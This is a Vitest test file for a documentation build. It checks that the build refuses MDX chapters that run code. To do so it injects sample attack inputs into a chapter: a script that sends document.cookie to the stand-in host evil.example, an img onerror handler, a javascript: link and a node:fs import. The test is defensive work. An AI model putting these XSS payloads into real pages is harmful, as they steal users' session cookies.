/**
 * The build enforces the checker's MDX safety rule on its own: a chapter that tries to run code
 * fails the build even if nobody ran the checker.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { buildWithContent, copyContent } from './support.ts';

let cleanup: (() => void) | undefined;
afterEach(() => cleanup?.());

describe('a malicious chapter', () => {
  it('fails the build, naming the file, line and what is not allowed', () => {
    const content = copyContent();
    cleanup = content.cleanup;
    const file = content.file('editions/draft/skills/listening.mdx');
    const text = readFileSync(file, 'utf8').replace(
      /\n---\n/,
      `\n---\nimport fs from 'node:fs';\n\n<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>\n\n<img src="x.png" alt="" onerror="alert(1)" />\n\n[Click](javascript:alert(1))\n\n`,
    );
    writeFileSync(file, text);
    const { status, output } = buildWithContent(content.dir);
    expect(status).not.toBe(0);
    expect(output).toContain('The build refuses:');
    expect(output).toMatch(/editions\/draft\/skills\/listening\.mdx:\d+:\d+: .*import/i);
    expect(output).toMatch(/listening\.mdx:\d+:\d+: .*script/i);
    expect(output).toMatch(/listening\.mdx:\d+:\d+: .*onerror/i);
    expect(output).toMatch(/listening\.mdx:\d+:\d+: .*javascript:/i);
  });
});
